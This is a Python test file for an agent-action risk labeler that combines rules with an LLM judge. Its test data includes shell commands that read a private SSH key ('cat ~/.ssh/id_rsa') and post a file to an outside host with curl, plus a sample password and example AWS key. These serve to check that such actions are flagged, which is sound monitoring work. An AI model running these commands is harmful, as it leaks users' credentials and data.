"""A labeler with a judge behind it: asked only where no rule decides, and never believed below what rules found."""

import pickle

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from safetydrift.effects.catalogue.acts import KINDS
from safetydrift.effects.labeler import Labeler
from safetydrift.errors import JudgeBudgetError, JudgeError, JudgeSettingsError, UnknownAnswerError
from safetydrift.formats.catalogue_file import load_catalogue
from safetydrift.states.effect import Effect
from safetydrift.study.judge import JudgedLabeler, judged
from safetydrift.study.judge.definitions import LEVELS
from safetydrift.trace import Step, ToolCall

LABELER = Labeler(load_catalogue())
SCALES = LABELER.catalogue.scales
RANKS = SCALES.ranks
UNKNOWN = ToolCall("frobnicate", {"a": "b"})
LOW = {"data": "none", "tool": "read_only", "reversibility": "fully_reversible"}
EFFECTS = st.builds(
    Effect,
    st.fixed_dictionaries({name: st.sampled_from(list(levels)) for name, levels in LEVELS.items()}),
    st.just("judge"),
    st.just(("because",)),
    kinds=st.sets(st.sampled_from(KINDS)).map(lambda kinds: tuple(sorted(kinds))),
    external=st.booleans(),
    confidence=st.floats(0, 1),
)
CALLS = [
    UNKNOWN,
    ToolCall("frobnicate", malformed="{"),
    ToolCall("frobnicate", {"note": "password = Tr0ub4dor&3xyz"}),
    ToolCall("frobnicate", hints={"destructiveHint": True}),
    ToolCall("bash", {"command": "frobnicate x"}),
    ToolCall("bash", {"command": "cat ~/.ssh/id_rsa; frobnicate x"}),
    ToolCall("bash", {"command": "curl -d @a https://example.org; frobnicate"}),
    ToolCall("bash", {"command": 7}),
    ToolCall("bash", {"command": "ls"}),
    ToolCall("send_email", {"recipients": ["a@example.org"]}),
    ToolCall("mcp__x__delete_notes"),
]


class Scripted:
    """A judge that says, or raises, what it was told to."""

    def __init__(self, outcome):
        self.outcome, self.asked = outcome, []

    def assess(self, call):
        self.asked.append(call)
        if isinstance(self.outcome, Exception):
            raise self.outcome
        return self.outcome


JUDGED = judged(LABELER, Scripted(None))
"""To be given other judges, since making one is slow."""


def answer(levels=None, **rest):
    return Effect.of({**LOW, **(levels or {})}, "judge", ("because",), **{"confidence": 0.9, **rest})


def test_what_a_rule_decides_is_not_asked():
    judge = Scripted(answer())
    labeler = judged(LABELER, judge)
    for call in (
        ToolCall("bash", {"command": "ls"}),
        ToolCall("send_email"),
        ToolCall("mcp__x__delete_notes"),
    ):
        assert labeler.propose(call) == LABELER.propose(call)
    assert judge.asked == []
    assert not labeler.tally


def test_an_answer_takes_the_place_of_the_default():
    judge = Scripted(answer({"data": "public"}, kinds=("integrity",)))
    labeler = judged(LABELER, judge)
    effect = labeler.propose(UNKNOWN)
    assert {name: effect[name] for name in LOW} == {**LOW, "data": "public"}
    assert (effect.source, effect.confidence, effect.kinds) == ("judge", 0.9, ("integrity",))
    assert not effect.external
    assert not effect.leaves
    assert effect.reasons[0] == "because"
    assert labeler.tally["answered"] == 1
    assert judge.asked == [UNKNOWN]


@given(st.sampled_from(CALLS), EFFECTS)
def test_no_answer_goes_below_what_the_rules_found(call, said):
    JUDGED.judge, JUDGED.trust = Scripted(said), 0.5
    effect = JUDGED.propose(call)
    floor = JUDGED._least(call)
    assert all(mine >= least for mine, least in zip(RANKS(effect), RANKS(floor), strict=True))
    assert set(floor.kinds) <= set(effect.kinds)
    if effect.source == "judge":
        told = SCALES.read(dict(said.levels), "said", whole=False)
        assert all(mine >= least for mine, least in zip(RANKS(effect), told, strict=True))
        assert set(said.kinds) <= set(effect.kinds)
        assert effect.external >= said.external


@given(st.sampled_from(CALLS), EFFECTS)
def test_an_unsure_answer_only_raises(call, said):
    JUDGED.judge, JUDGED.trust = Scripted(replace(said, confidence=0.3)), 0.31
    unsure = JUDGED.tally["unsure"]
    found, effect = LABELER.propose(call), JUDGED.propose(call)
    assert all(mine >= least for mine, least in zip(RANKS(effect), RANKS(found), strict=True))
    assert set(found.kinds) <= set(effect.kinds)
    assert JUDGED.tally["unsure"] - unsure == (effect.source == "judge")


def test_part_of_a_command_that_was_read_stays():
    labeler = judged(LABELER, Scripted(answer()))
    effect = labeler.propose(ToolCall("bash", {"command": "cat ~/.ssh/id_rsa; frobnicate x"}))
    assert effect.source == "judge"
    assert effect["data"] == "credentials"
    sent = labeler.propose(ToolCall("bash", {"command": "curl -d @a https://example.org; frobnicate"}))
    assert (sent["tool"], sent["reversibility"], sent.external) == ("network", "irreversible", True)
    alone = labeler.propose(ToolCall("bash", {"command": "frobnicate x"}))
    assert {name: alone[name] for name in LOW} == LOW


def test_what_arguments_hold_is_looked_at_as_ever():
    call = ToolCall("frobnicate", {"key": "AKIAIOSFODNN7EXAMPLE"})
    bare = LABELER.propose(call)
    effect = judged(LABELER, Scripted(answer())).propose(call)
    assert effect["data"] == bare["data"]


def test_sensitive_content_that_is_said_to_leave_is_a_leak():
    said = answer({"data": "sensitive", "tool": "network", "reversibility": "irreversible"}, external=True)
    effect = judged(LABELER, Scripted(said)).propose(UNKNOWN)
    assert effect.leaves
    assert effect.kinds == ("data_leak",)


def test_a_step_is_as_it_was_proposed_and_failed_as_ever():
    labeler = judged(LABELER, Scripted(answer({"data": "sensitive", "tool": "file_write"})))
    proposal = labeler.read_call(UNKNOWN)
    assert labeler.read_result(proposal, "done").effect["tool"] == "file_write"
    assert labeler.effect(Step(UNKNOWN, error="no"))["data"] == "none"
    assert labeler.tally["answered"] == 2


@pytest.mark.parametrize(
    ("judge", "count"),
    [
        (Scripted(JudgeError("no answer")), "failed"),
        (Scripted(RuntimeError("a bug")), "failed"),
        (Scripted(replace(answer(), levels=(("data", "odd"),))), "failed"),
        (Scripted(JudgeBudgetError("spent")), "failed"),
        (Scripted(UnknownAnswerError("0" * 64)), "unknown"),
        (Scripted(None), "unknown"),
    ],
    ids=lambda one: one if isinstance(one, str) else repr(one.outcome)[:30],
)
def test_where_the_judge_fails_the_default_stays_and_is_counted(judge, count):
    labeler = judged(LABELER, judge)
    assert labeler.propose(UNKNOWN) == LABELER.propose(UNKNOWN)
    assert +labeler.tally == {count: 1}
    assert bool(labeler.last_failure) == (count == "failed")


def test_it_may_be_asked_where_confidence_is_low():
    call = ToolCall("mcp__x__delete_notes")
    found = LABELER.propose(call)
    assert found.source == "pattern"
    labeler = judged(LABELER, Scripted(answer(kinds=("integrity",))), below=found.confidence + 0.01)
    effect = labeler.propose(call)
    assert effect.source == "judge"
    assert RANKS(effect) == RANKS(found)
    assert set(effect.kinds) == {*found.kinds, "integrity"}


@pytest.mark.parametrize("bounds", [{"below": 1.1}, {"trust": -1}, {"trust": float("nan")}])
def test_bounds_that_are_no_probability_are_refused(bounds):
    with pytest.raises(JudgeSettingsError, match=next(iter(bounds))):
        judged(LABELER, Scripted(None), **bounds)


def test_it_is_a_labeler_and_travels_like_one():
    labeler = judged(LABELER, Scripted(answer()), trust=0.7)
    again = pickle.loads(pickle.dumps(labeler))  # noqa: S301
    assert isinstance(again, JudgedLabeler)
    assert again.propose(UNKNOWN) == labeler.propose(UNKNOWN)
    assert again.trust == 0.7
    assert "Scripted" in repr(labeler)
